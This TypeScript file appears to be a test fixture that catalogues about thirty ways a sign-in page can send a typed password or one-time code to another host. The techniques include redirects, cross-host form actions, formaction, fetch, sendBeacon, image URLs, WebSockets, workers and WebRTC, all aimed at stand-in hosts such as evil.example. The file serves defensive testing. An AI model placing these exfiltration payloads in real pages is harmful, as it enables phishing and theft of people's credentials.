import type { ServerResponse } from 'node:http';
import type { Pages } from './sign-in-pages.ts';

/** Where a lure leads: another host, under names of its own. */
export interface Elsewhere {
  /** An origin of it by a host name. */
  at(host?: string): string;
  /** The port at which it takes anything by UDP. */
  readonly udp: number;
  /** The origin of the base URL. */
  readonly base: string;
}

/** What waits at the other host, for whatever path. */
export const TRAP =
  '<title>Sign in</title><form method="post" action="/take"><input name="login" type="email"><input name="secret" type="password"><input name="otp"><button>Sign in</button></form>';

export interface Lure {
  /** What the pages do, as a row of a table. */
  readonly does: string;
  /** Whether forms can be lured that way, or only a browser. */
  readonly forms?: true;
  /** Whether the visit itself has to end where it began. */
  readonly core?: true;
  /** Whether the environment is reached by TLS. */
  readonly tls?: true;
  /** Whether nothing is sent even where the profile names the other host: nobody types there, or the way is closed to all. */
  readonly never?: true;
  pages(elsewhere: Elsewhere): Readonly<Record<string, Answer>>;
}

type Answer = string | ((response: ServerResponse, body: URLSearchParams) => void);

const START = '/oauth/authorize';
const FIELDS = '<input name="login" type="email"><input name="secret" type="password" id="s">';
const form = (more: string, button = '<button>Sign in</button>'): string =>
  `<form method="post" ${more}>${FIELDS}${button}</form>`;
const redirect =
  (status: number, location: string): Answer =>
  (response) =>
    void response.writeHead(status, { location }).end();
/** A page whose script does something with what is typed, as soon as it is. */
const onInput = (does: string, before = ''): string =>
  `${form('action="/in"')}<script>${before};document.getElementById('s').addEventListener('input', (event) => { const typed = event.target.value; ${does} });</script>`;
const DONE = '<p>Signed in</p>';
const page = (html: string, more: Readonly<Record<string, Answer>> = {}) => ({
  [START]: html,
  '/in': DONE,
  ...more,
});

/** Ways to have somebody's password or one-time code sent elsewhere. */
export const LURES: readonly Lure[] = [
  {
    does: 'a redirect of the sign-in to another host, which shows the same form',
    core: true,
    forms: true,
    pages: ({ at }) => ({ [START]: redirect(302, `${at()}/login`) }),
  },
  {
    does: 'a redirect to a host whose name begins with that of the environment',
    forms: true,
    pages: ({ at }) => ({ [START]: redirect(302, `${at('alpha.example.com.evil.example')}/login`) }),
  },
  {
    does: 'a page that leads to another host by itself (`meta refresh`)',
    forms: true,
    pages: ({ at }) => page(`<meta http-equiv="refresh" content="0; url=${at()}/login">`),
  },
  {
    does: 'a script that leads to another host',
    pages: ({ at }) => page(`<script>location.href = '${at()}/login'</script>`),
  },
  {
    does: 'a form whose action is at another host',
    core: true,
    forms: true,
    pages: ({ at }) => page(form(`action="${at()}/take"`)),
  },
  {
    does: 'a form whose action names the environment as a user of another host (`https://alpha@evil`)',
    forms: true,
    pages: ({ at, base }) =>
      page(form(`action="${at().replace('//', `//${new URL(base).hostname}@`)}/take"`)),
  },
  {
    does: 'a form whose action is at another port of the same host',
    forms: true,
    pages: ({ at, base }) => page(form(`action="${at(new URL(base).hostname)}/take"`)),
  },
  {
    does: 'a form whose action is without TLS, where the environment has it',
    core: true,
    forms: true,
    tls: true,
    pages: ({ at, base }) => page(form(`action="${at(new URL(base).hostname)}/take"`)),
  },
  {
    does: 'a form whose address is relative to a `base` at another host',
    forms: true,
    pages: ({ at }) => page(`<base href="${at()}/">${form('action="take"')}`),
  },
  {
    does: 'a button that sends the form to another host (`formaction`)',
    core: true,
    forms: true,
    pages: ({ at }) => page(form('action="/in"', `<button formaction="${at()}/take">Sign in</button>`)),
  },
  {
    does: 'a script that changes the action as the form is sent',
    core: true,
    pages: ({ at }) =>
      page(
        `${form('action="/in"')}<script>document.forms[0].onsubmit = ({ target }) => { target.action = '${at()}/take'; };</script>`,
      ),
  },
  {
    does: 'a script that sends the form elsewhere while it is filled in',
    pages: ({ at }) =>
      page(onInput(`const one = document.forms[0]; one.action = '${at()}/take'; one.submit();`)),
  },
  {
    does: 'a form that opens in another window, at another host',
    core: true,
    pages: ({ at }) =>
      page(
        onInput(
          `const one = document.forms[0]; one.target = '_blank'; one.action = '${at()}/take'; one.submit();`,
        ),
      ),
  },
  {
    does: 'a frame of another host with the form in it',
    never: true,
    pages: ({ at }) => page(`<h1>Sign in</h1><iframe src="${at()}/login" width="600" height="400"></iframe>`),
  },
  {
    does: 'a form in a frame that has no address of its own (`srcdoc`)',
    never: true,
    pages: ({ at }) =>
      page(
        `<h1>Sign in</h1><iframe srcdoc='${form(`action="${at()}/take"`)}' width="600" height="400"></iframe>`,
      ),
  },
  {
    does: 'a page that the browser makes itself (`blob:`), whose origin reads as that of the environment',
    never: true,
    pages: ({ at }) =>
      page(
        `<script>location.href = URL.createObjectURL(new Blob([${JSON.stringify(form(`action="${at()}/take"`))}], { type: 'text/html' }))</script>`,
      ),
  },
  {
    does: 'an action that is a script (`javascript:`)',
    pages: ({ at }) =>
      page(
        form(
          `action="javascript:void fetch('${at()}/take', { method: 'POST', mode: 'no-cors', body: document.getElementById('s').value })"`,
        ),
      ),
  },
  {
    does: 'the answer to the form, which redirects it with all that it holds (307)',
    core: true,
    forms: true,
    pages: ({ at }) => page(form('action="/in"'), { '/in': redirect(307, `${at()}/take`) }),
  },
  {
    does: 'the answer to the form, which redirects to an address with what was typed in it',
    forms: true,
    pages: ({ at }) =>
      page(form('action="/in"'), {
        '/in': (response, body) => void response.writeHead(302, { location: `${at()}/take?${body}` }).end(),
      }),
  },
  {
    does: 'a step for the one-time code at another host, after the password was taken',
    core: true,
    forms: true,
    pages: ({ at }) => page(form('action="/in"'), { '/in': redirect(302, `${at()}/otp`) }),
  },
  {
    does: 'a script that sends what is typed by `fetch`',
    core: true,
    pages: ({ at }) =>
      page(onInput(`fetch('${at()}/take', { method: 'POST', mode: 'no-cors', body: typed });`)),
  },
  {
    does: 'a script that sends each change by XMLHttpRequest',
    pages: ({ at }) =>
      page(
        onInput(`const asked = new XMLHttpRequest(); asked.open('POST', '${at()}/take'); asked.send(typed);`),
      ),
  },
  {
    does: 'a script that leaves what is typed with the browser to be sent (`sendBeacon`)',
    core: true,
    pages: ({ at }) => page(onInput(`navigator.sendBeacon('${at()}/take', typed);`)),
  },
  {
    does: 'a picture whose address holds what is typed',
    core: true,
    pages: ({ at }) => page(onInput(`new Image().src = '${at()}/take?' + encodeURIComponent(typed);`)),
  },
  {
    does: 'a style sheet whose address holds what is typed',
    pages: ({ at }) =>
      page(
        onInput(
          `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '${at()}/take?' + typed; document.head.append(link);`,
        ),
      ),
  },
  {
    does: 'a host name that holds what is typed',
    pages: ({ at }) =>
      page(onInput(`new Image().src = '${at('TYPED.evil.example')}/'.replace('TYPED', typed);`)),
  },
  {
    does: 'an event stream whose address holds what is typed',
    pages: ({ at }) => page(onInput(`new EventSource('${at()}/take?' + typed);`)),
  },
  {
    does: 'a socket that was opened before anything was typed',
    core: true,
    pages: ({ at }) =>
      page(
        onInput(
          `socket.send(typed);`,
          `const socket = new WebSocket('${at().replace('http', 'ws')}/socket')`,
        ),
      ),
  },
  {
    does: 'a socket that is opened with what is typed',
    pages: ({ at }) => page(onInput(`new WebSocket('${at().replace('http', 'ws')}/socket?' + typed);`)),
  },
  {
    does: 'a frame of another host that is told what is typed, and sends it to its own',
    core: true,
    pages: ({ at }) =>
      page(`<iframe src="${at()}/listens"></iframe>${onInput(`frames[0].postMessage(typed, '*');`)}`),
  },
  {
    does: 'a worker that sends what is typed',
    core: true,
    pages: ({ at }) =>
      page(
        onInput(
          'worker.postMessage(typed);',
          `const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data }) => fetch('${at()}/take', { method: 'POST', mode: 'no-cors', body: data })"])))`,
        ),
      ),
  },
  {
    does: 'a page that keeps what is typed, and a later one that sends it',
    pages: ({ at }) =>
      page(onInput('sessionStorage.kept = typed;'), {
        '/in': `<p>Signed in</p><script>new Image().src = '${at()}/take?' + sessionStorage.kept;</script>`,
      }),
  },
  {
    does: 'a call to a relay of WebRTC, by UDP, whose user name is what is typed',
    never: true,
    pages: ({ udp }) =>
      page(
        onInput(
          `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${udp}', username: typed, credential: typed }, { urls: 'stun:127.0.0.1:${udp}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
        ),
      ),
  },
];

/** The pages of the environment under a lure. */
export const pagesOf =
  (lure: Lure, elsewhere: Elsewhere): Pages =>
  (request, body, response) => {
    const answer = lure.pages(elsewhere)[new URL(request.url ?? '', 'http://here').pathname];
    if (answer === undefined) response.writeHead(404).end('<h1>Not here</h1>');
    else if (typeof answer === 'string') response.end(answer);
    else answer(response, body);
  };
